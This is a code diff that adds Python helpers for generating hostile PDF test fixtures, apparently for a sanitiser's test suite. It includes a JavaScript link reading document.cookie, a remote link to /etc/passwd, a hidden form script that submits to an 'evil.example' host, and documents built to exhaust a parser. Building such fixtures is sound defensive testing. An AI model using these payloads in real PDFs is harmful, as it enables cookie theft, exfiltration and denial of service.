@@ -105,3 +105,85 @@ def deep_page_tree_pdf(levels: int = 5000) -> bytes:
 
 def truncated_pdf() -> bytes:
     return plain_pdf()[:-40]
+
+
+def _link(writer: PdfWriter, page: DictionaryObject, action: DictionaryObject) -> None:
+    link = DictionaryObject({
+        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
+        NameObject("/Rect"): ArrayObject([NumberObject(0), NumberObject(0),
+                                          NumberObject(100), NumberObject(100)]),
+        NameObject("/A"): action})
+    page[NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
+
+
+def uri_scheme_pdf(uri: str = "javascript:app.alert(document.cookie)") -> bytes:
+    """A link whose /URI is no web address (javascript:, file:)."""
+    writer = PdfWriter()
+    page = writer.add_blank_page(595, 842)
+    _link(writer, page, DictionaryObject({NameObject("/S"): NameObject("/URI"),
+                                          NameObject("/URI"): TextStringObject(uri)}))
+    return _bytes(writer)
+
+
+def remote_goto_pdf() -> bytes:
+    """A link that opens another file (/GoToR)."""
+    writer = PdfWriter()
+    page = writer.add_blank_page(595, 842)
+    _link(writer, page, DictionaryObject({
+        NameObject("/S"): NameObject("/GoToR"), NameObject("/F"): TextStringObject("/etc/passwd"),
+        NameObject("/D"): ArrayObject([NumberObject(0), NameObject("/Fit")])}))
+    return _bytes(writer)
+
+
+def form_script_pdf() -> bytes:
+    """A form field that no page shows, with a calculate script and a submit action: a
+    viewer runs them from /AcroForm alone."""
+    writer = PdfWriter()
+    writer.add_blank_page(595, 842)
+    submit = DictionaryObject({NameObject("/S"): NameObject("/SubmitForm"),
+                               NameObject("/F"): TextStringObject("https://evil.example/")})
+    field = DictionaryObject({
+        NameObject("/FT"): NameObject("/Tx"), NameObject("/T"): TextStringObject("total"),
+        NameObject("/AA"): DictionaryObject({NameObject("/C"): _js("this.submitForm()")}),
+        NameObject("/A"): submit})
+    form = DictionaryObject({NameObject("/Fields"): ArrayObject([writer._add_object(field)])})
+    writer._root_object[NameObject("/AcroForm")] = writer._add_object(form)
+    return _bytes(writer)
+
+
+def encrypted_pdf() -> bytes:
+    writer = PdfWriter()
+    writer.add_blank_page(595, 842)
+    writer.encrypt("secret", algorithm="AES-128")
+    return _bytes(writer)
+
+
+def many_objects_pdf(count: int = 600_000) -> bytes:
+    """One page whose resources name `count` tiny objects: past the active-content walk's
+    bound, written by hand (pypdf would take minutes)."""
+    head = b"%PDF-1.7\n"
+    out = io.BytesIO()
+    out.write(head)
+    offsets = []
+    refs = b" ".join(b"%d 0 R" % (4 + i) for i in range(count))
+    bodies = [b"<< /Type /Catalog /Pages 2 0 R >>",
+              b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+              b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Junk [" + refs + b"] >>"]
+    bodies += [b"%d" % i for i in range(count)]
+    for index, body in enumerate(bodies, start=1):
+        offsets.append(out.tell())
+        out.write(b"%d 0 obj\n%s\nendobj\n" % (index, body))
+    xref = out.tell()
+    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1))
+    for offset in offsets:
+        out.write(b"%010d 00000 n \n" % offset)
+    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n"
+              % (len(bodies) + 1, xref))
+    return out.getvalue()
+
+
+def long_comment_pdf(size: int = 50 * 1024 * 1024) -> bytes:
+    """A valid one-page PDF with one comment of `size` bytes before its end: pypdf read
+    comments a byte at a time, 9 s for this one at each of a build's four parses."""
+    data = plain_pdf()
+    return data[:-30] + b"%" + b"x" * size + data[-30:]
